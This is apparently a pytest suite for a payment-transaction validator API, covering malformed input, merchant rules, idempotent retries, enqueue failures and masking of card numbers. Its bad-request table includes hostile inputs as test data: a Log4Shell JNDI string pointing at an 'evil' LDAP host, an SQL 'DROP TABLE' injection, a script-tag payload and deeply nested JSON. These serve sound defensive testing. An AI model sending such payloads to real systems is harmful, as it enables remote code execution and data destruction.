"""Validator (API) behaviour: P2, acceptance, malformed input, idempotent retries, enqueue failure, GET."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tap_contract.api import ErrorCode
from tap_testing.backend import TEST_MERCHANT, transaction
from tap_testing.cards import AMEX, FUTURE_EXPIRY, VISA
from tests.unit.functions.conftest import emitted_metrics


def _card(**fields: Any) -> dict[str, Any]:
    return {"number": VISA, "expiry": FUTURE_EXPIRY, **fields}


def _without(field: str) -> dict[str, Any]:
    body = transaction()
    del body[field]
    return body


FUTURE = (datetime.now(UTC) + timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%SZ")

# (id, body, raw?, expected status, fragment the message must contain)
BAD_REQUESTS: list[tuple[str, Any, bool, int, str]] = [
    ("not-json", "this is not json", True, 400, "not valid JSON"),
    ("empty-string", "", True, 400, "empty"),
    ("no-body", None, True, 400, "empty"),
    ("json-array", "[]", True, 400, "JSON object"),
    ("json-string", '"hello"', True, 400, "JSON object"),
    ("one-megabyte", json.dumps(transaction(customer_id="c" * (1024 * 1024))), True, 400, "larger than"),
    ("missing-merchant", _without("merchant_id"), False, 400, "merchant_id is required"),
    ("missing-amount", _without("amount"), False, 400, "amount is required"),
    ("missing-currency", _without("currency"), False, 400, "currency is required"),
    ("missing-card", _without("card"), False, 400, "card is required"),
    ("extra-field", transaction(discount="10"), False, 400, "discount is not an allowed field"),
    ("extra-card-field", transaction(card=_card(pin="1234")), False, 400, "card.pin is not an allowed field"),
    ("amount-number", transaction(amount=25.0), False, 400, "amount has the wrong type"),
    ("amount-negative", transaction(amount="-5.00"), False, 400, "amount must be a positive decimal"),
    ("amount-zero", transaction(amount="0"), False, 400, "amount must be greater than zero"),
    ("amount-zero-decimals", transaction(amount="0.00"), False, 400, "amount must be greater than zero"),
    ("amount-huge", transaction(amount="10000000000000000"), False, 400, "amount must be a positive decimal"),
    ("amount-exponent", transaction(amount="1e5"), False, 400, "amount must be a positive decimal"),
    (
        "amount-too-many-decimals",
        transaction(amount="10.001"),
        False,
        400,
        "3 decimal places but USD allows at most 2",
    ),
    ("amount-jpy-decimals", transaction(amount="100.5", currency="JPY"), False, 400, "JPY allows at most 0"),
    ("currency-unknown", transaction(currency="XYZ"), False, 400, "currency is not a supported ISO 4217"),
    ("currency-lowercase", transaction(currency="usd"), False, 400, "currency must be a three-letter"),
    ("currency-metal", transaction(currency="XAU"), False, 400, "currency is not a supported ISO 4217"),
    (
        "currency-fullwidth-unicode",
        transaction(currency="\uff35\uff33\uff24"),
        False,
        400,
        "currency must be a three-letter",
    ),
    (
        "merchant-unicode",
        transaction(merchant_id="merchánt-ü"),
        False,
        400,
        "merchant_id must be a merchant id",
    ),
    (
        "merchant-sql-injection",
        transaction(merchant_id="x'; DROP TABLE t;--"),
        False,
        400,
        "merchant_id must be",
    ),
    (
        "merchant-script",
        transaction(merchant_id="<script>alert(1)</script>"),
        False,
        400,
        "merchant_id must be",
    ),
    ("merchant-empty", transaction(merchant_id=""), False, 400, "merchant_id must be"),
    ("merchant-too-long", transaction(merchant_id="m" * 65), False, 400, "merchant_id must be"),
    ("merchant-null", transaction(merchant_id=None), False, 400, "merchant_id has the wrong type"),
    (
        "card-luhn-invalid",
        transaction(card=_card(number="4111111111111112")),
        False,
        400,
        "Luhn check failed",
    ),
    ("card-with-dashes", transaction(card=_card(number="4111-1111-1111-1111")), False, 400, "12-19 digits"),
    ("card-too-short", transaction(card=_card(number="4111")), False, 400, "12-19 digits"),
    ("card-expired", transaction(card=_card(expiry="01/20")), False, 400, "card.expiry card has expired"),
    ("card-expiry-format", transaction(card=_card(expiry="13/30")), False, 400, "card.expiry must be MM/YY"),
    ("card-token-and-number", transaction(card=_card(token="tok_abcdefgh")), False, 400, "not both"),
    ("card-empty", transaction(card={}), False, 400, "needs a token"),
    ("card-number-without-expiry", transaction(card={"number": VISA}), False, 400, "expiry is required"),
    ("card-cvv-short", transaction(card=_card(cvv="12")), False, 400, "card.cvv must be 3 or 4 digits"),
    ("card-as-string", transaction(card=VISA), False, 400, "card has the wrong type"),
    ("transaction-id-is-a-pan", transaction(transaction_id=AMEX), False, 400, "looks like a card number"),
    (
        "transaction-id-is-a-dashed-pan",
        transaction(transaction_id="4111-1111-1111-1111"),
        False,
        400,
        "looks like a card number",
    ),
    (
        "customer-log4shell",
        transaction(customer_id="${jndi:ldap://evil/x}"),
        False,
        400,
        "customer_id must be",
    ),
    ("country-alpha3", transaction(country="USA"), False, 400, "country must be a two-letter"),
    ("timestamp-words", transaction(timestamp="yesterday"), False, 400, "timestamp must be ISO-8601"),
    (
        "timestamp-no-zone",
        transaction(timestamp="2024-05-01T12:00:00"),
        False,
        400,
        "timestamp must be ISO-8601",
    ),
    ("timestamp-future", transaction(timestamp=FUTURE), False, 400, "timestamp is in the future"),
    ("merchant-unknown", transaction(merchant_id="no-such-merchant"), False, 422, "not known"),
    ("currency-not-allowed", transaction(currency="GBP"), False, 422, "does not accept GBP"),
    ("amount-below-minimum", transaction(amount="0.10"), False, 422, "below the merchant minimum"),
    ("amount-above-maximum", transaction(amount="6000.00"), False, 422, "above the merchant maximum"),
]


def _nothing_stored_or_queued(pipeline: Any) -> None:
    assert pipeline.records() == []
    assert pipeline.scan(pipeline.idempotency_table) == []
    assert pipeline.scan(pipeline.fraud_state_table) == []
    assert pipeline.queue_depth(pipeline.queue_url) == 0


@pytest.mark.parametrize(
    ("body", "raw", "status", "fragment"),
    [case[1:] for case in BAD_REQUESTS],
    ids=[case[0] for case in BAD_REQUESTS],
)
def test_bad_request_gets_4xx_naming_the_problem_and_stores_nothing(pipeline, body, raw, status, fragment):
    response = pipeline.post(body, raw=raw)

    assert response["statusCode"] == status, response["json"]
    assert fragment in response["json"]["message"]
    assert response["json"]["code"]
    _nothing_stored_or_queued(pipeline)


def test_bad_request_table_is_large_enough():
    assert len(BAD_REQUESTS) >= 30


def test_bad_request_lists_one_message_per_bad_field(pipeline):
    response = pipeline.post(transaction(amount="-1", currency="usd", country="USA", extra=True))

    assert response["statusCode"] == 400
    fields = sorted(error["field"] for error in response["json"]["errors"])
    assert fields == ["amount", "country", "currency", "extra"]


def test_error_messages_never_echo_the_card_number(pipeline):
    bad_luhn = "4111111111111112"
    response = pipeline.post(transaction(card=_card(number=bad_luhn, expiry="01/20")))

    assert response["statusCode"] == 400
    assert bad_luhn not in response["body"]


@pytest.mark.parametrize(
    ("merchant", "reason"),
    [
        ({"active": False}, "MERCHANT_INACTIVE"),
        ({"allowed_currencies": ["EUR"]}, "CURRENCY_NOT_ALLOWED"),
        ({"min_amount": 100}, "AMOUNT_BELOW_MINIMUM"),
        ({"max_amount": 10}, "AMOUNT_ABOVE_MAXIMUM"),
    ],
)
def test_p2_merchant_rules_reject_with_reason_code(pipeline, merchant, reason, capsys):
    pipeline.put_merchant("shop-2", **merchant)

    response = pipeline.post(transaction(merchant_id="shop-2"))

    assert response["statusCode"] == 422
    assert response["json"]["code"] == reason
    assert f'"reason":"{reason}"' in capsys.readouterr().out  # TransactionRejected metric by reason
    _nothing_stored_or_queued(pipeline)


def test_p2_p3_accepted_transaction_is_stored_received_and_queued(pipeline):
    response = pipeline.post(transaction(transaction_id="txn-accept-1", customer_id="cust-9"))

    assert response["statusCode"] == 202
    assert response["json"] == {"transaction_id": "txn-accept-1", "status": "PENDING"}
    record = pipeline.record("txn-accept-1")
    assert record["status"] == "RECEIVED"
    assert record["merchant_shard"].startswith(f"{TEST_MERCHANT}#")
    assert 0 <= int(record["merchant_shard"].rsplit("#", 1)[1]) < 16
    assert record["timestamp"].endswith("Z") and len(record["timestamp"]) == 24
    assert (record["card_bin"], record["card_last4"]) == ("411111", "1111")
    messages = pipeline.drain(pipeline.queue_url)
    assert len(messages) == 1
    body = json.loads(messages[0]["Body"])
    assert body["transaction_id"] == "txn-accept-1"
    assert body["timestamp"] == record["timestamp"]
    assert body["card"]["fingerprint"] == record["card_fingerprint"]


def test_transaction_id_is_generated_when_absent(pipeline):
    first = pipeline.post(transaction())
    second = pipeline.post(transaction())

    assert first["statusCode"] == second["statusCode"] == 202
    assert first["json"]["transaction_id"] != second["json"]["transaction_id"]
    assert len(pipeline.records()) == 2


def test_jpy_whole_amount_accepted_for_merchant_allowing_it(pipeline):
    pipeline.put_merchant(
        "jp-shop", allowed_currencies=["JPY"], min_amount=1, max_amount=1_000_000, country="JP"
    )

    response = pipeline.post(transaction(merchant_id="jp-shop", currency="JPY", amount="1500", country="JP"))

    assert response["statusCode"] == 202


def test_token_card_is_accepted_and_the_token_is_not_stored(pipeline):
    token = "tok_live_abcdef123456"
    response = pipeline.post(transaction(card={"token": token}, transaction_id="tok-1"))

    assert response["statusCode"] == 202
    record = pipeline.record("tok-1")
    assert record["card_kind"] == "token"
    assert token not in json.dumps(record, default=str)
    assert token not in pipeline.drain(pipeline.queue_url)[0]["Body"]


def test_retry_with_same_id_returns_original_answer_and_creates_nothing_new(pipeline):
    body = transaction(transaction_id="retry-1")
    first = pipeline.post(body)
    pipeline.run_detector()  # processed in between: the retry must not re-enqueue
    second = pipeline.post(body)

    assert first["statusCode"] == second["statusCode"] == 202
    assert first["json"] == second["json"]
    assert len(pipeline.records()) == 1
    assert len(pipeline.scan(pipeline.idempotency_table)) == 1
    assert pipeline.queue_depth(pipeline.queue_url) == 0


def test_reused_id_with_different_body_is_rejected_409(pipeline):
    pipeline.post(transaction(transaction_id="reuse-1", amount="10.00"))

    response = pipeline.post(transaction(transaction_id="reuse-1", amount="99.00"))

    assert response["statusCode"] == 409
    assert response["json"]["code"] == "IDEMPOTENCY_KEY_REUSED"
    record = pipeline.record("reuse-1")
    assert str(record["amount"]) == "10.00"


def test_reused_id_with_different_card_is_rejected_409(pipeline):
    pipeline.post(transaction(transaction_id="reuse-2"))

    response = pipeline.post(transaction(transaction_id="reuse-2", card=_card(number="5555555555554444")))

    assert response["statusCode"] == 409


def test_retry_after_merchant_deactivation_still_gets_original_answer(pipeline):
    body = transaction(transaction_id="retry-deact")
    assert pipeline.post(body)["statusCode"] == 202
    pipeline.put_merchant(TEST_MERCHANT, active=False)
    from tap_pipeline.data import merchants

    merchants.directory.cache_clear()  # drop the merchant cache so the deactivation is seen

    assert pipeline.post(body)["statusCode"] == 202
    assert pipeline.post(transaction(transaction_id="new-after-deact"))["statusCode"] == 422


def test_enqueue_failure_gives_503_and_retry_reenqueues_received_record(pipeline, monkeypatch, capsys):
    from tap_pipeline.data import clients

    body = transaction(transaction_id="enqueue-1")
    real_sqs = clients.sqs()

    class BrokenSqs:
        def send_message(self, **kwargs: Any) -> Any:
            raise real_sqs.exceptions.QueueDoesNotExist({"Error": {"Code": "Throttling"}}, "SendMessage")

    monkeypatch.setattr(clients, "sqs", lambda: BrokenSqs())
    failed = pipeline.post(body)

    assert failed["statusCode"] == 503
    assert failed["headers"]["Retry-After"] == "1"
    assert emitted_metrics(capsys.readouterr().out).get("InternalError") == 1  # counted by C6's alarm
    assert pipeline.record("enqueue-1")["status"] == "RECEIVED"
    assert pipeline.queue_depth(pipeline.queue_url) == 0

    monkeypatch.setattr(clients, "sqs", lambda: real_sqs)
    retried = pipeline.post(body)

    assert retried["statusCode"] == 202
    messages = pipeline.drain(pipeline.queue_url)
    assert [json.loads(m["Body"])["transaction_id"] for m in messages] == ["enqueue-1"]
    assert len(pipeline.records()) == 1
    pipeline.run_detector(messages)
    assert pipeline.record("enqueue-1")["status"] == "CLEARED"


def test_merchant_config_is_cached_between_requests(pipeline, api_calls):
    pipeline.post(transaction())
    pipeline.post(transaction())
    pipeline.post(transaction())

    assert api_calls["dynamodb.GetItem"] == 1
    assert api_calls["secretsmanager.GetSecretValue"] == 1


def test_get_returns_status_score_reasons_and_masked_card(pipeline):
    pipeline.post(transaction(transaction_id="get-1"))
    pipeline.run_detector()

    response = pipeline.get("get-1")

    assert response["statusCode"] == 200
    body = response["json"]
    assert body["status"] == "CLEARED"
    assert body["fraud_score"] == 0
    assert body["reasons"] == []
    assert body["card"] == {"bin": "411111", "last4": "1111"}
    assert body["amount"] == "25.00"
    assert VISA not in response["body"]


def test_get_unknown_transaction_is_404(pipeline):
    response = pipeline.get("does-not-exist")

    assert response["statusCode"] == 404
    assert response["json"]["code"] == "NOT_FOUND"


@pytest.mark.parametrize(
    "transaction_id",
    [
        VISA,
        "4111-1111-1111-1111",
        "4111.1111.1111.1111",
        "4111_1111_1111_1111",
        "bad id!",
        "-leading-dash",
        "x" * 65,
    ],
)
def test_get_with_an_id_post_would_refuse_is_400_without_echoing_or_logging_it(
    pipeline, logs, transaction_id
):
    response = pipeline.get(transaction_id)

    assert response["statusCode"] == 400
    assert response["json"]["code"] == "INVALID_TRANSACTION_ID"
    assert "must not be a card number" in response["json"]["message"]
    assert transaction_id not in json.dumps(response)
    assert transaction_id not in logs.text


def test_unknown_route_is_404(pipeline):
    response = pipeline.api("DELETE", "/transaction")

    assert response["statusCode"] == 404


@pytest.mark.parametrize(
    ("field", "body"),
    [
        *(
            (name, transaction(**{name: None}))
            for name in ("transaction_id", "customer_id", "country", "timestamp")
        ),
        *((f"card.{name}", transaction(card=_card(**{name: None}))) for name in ("cvv", "token")),
        ("card.number", transaction(card={"number": None, "expiry": FUTURE_EXPIRY})),
        ("card.expiry", transaction(card={"number": VISA, "expiry": None})),
    ],
)
def test_p2_explicit_null_in_an_optional_field_is_400_naming_it_and_nothing_is_stored(pipeline, field, body):
    """Found by the schema-conformance run: a null reached a pattern check and the client got 503."""
    response = pipeline.post(body)
    assert response["statusCode"] == 400, response["body"]
    errors = json.loads(response["body"])["errors"]
    assert any(e["field"] == field and "not null" in e["message"] for e in errors)
    _nothing_stored_or_queued(pipeline)


def test_every_refusal_the_domain_returns_has_exactly_one_http_status():
    from tap_pipeline import intake
    from tap_pipeline.handlers import validator

    assert set(validator.REFUSAL_STATUS) == intake.REFUSALS
    with pytest.raises(ValueError, match="not a refusal"):
        intake.Refused(ErrorCode.NOT_FOUND, "a lookup answer is not an intake refusal")


def test_concurrent_request_with_the_same_id_is_503_with_retry_after_and_nothing_queued(
    pipeline, monkeypatch
):
    from tap_pipeline.data import transactions

    def concurrent(*args: Any, **kwargs: Any) -> Any:
        raise transactions.ConcurrentRequest("in-flight")

    monkeypatch.setattr(transactions.TransactionStore, "create_received", concurrent)
    response = pipeline.post(transaction(transaction_id="in-flight"))

    assert response["statusCode"] == 503
    assert response["headers"]["Retry-After"] == "1"
    assert json.loads(response["body"])["code"] == "REQUEST_IN_PROGRESS"
    assert pipeline.queue_depth(pipeline.queue_url) == 0


@pytest.mark.parametrize("opener", ["[", '{"a":'])
def test_p2_a_body_nested_thousands_deep_is_400_json_and_nothing_is_stored(pipeline, opener):
    closer = "]" if opener == "[" else "}"
    # 2,000 levels: past Python's recursion limit, inside the 16 KB body limit.
    response = pipeline.post(opener * 2_000 + "1" + closer * 2_000, raw=True)
    assert response["statusCode"] == 400
    body = json.loads(response["body"])
    assert body["code"] == "MALFORMED_REQUEST" and "deeper than" in body["message"]
    _nothing_stored_or_queued(pipeline)


@pytest.mark.parametrize("field", ["amount", "merchant_id", "card"])
def test_p2_a_repeated_key_is_400_naming_it_even_when_both_values_are_valid(pipeline, field):
    body = transaction()
    text = json.dumps(body)[:-1] + f", {json.dumps(field)}: {json.dumps(body[field])}}}"
    response = pipeline.post(text, raw=True)
    assert response["statusCode"] == 400
    assert f"repeats the key '{field}'" in json.loads(response["body"])["message"]
    _nothing_stored_or_queued(pipeline)
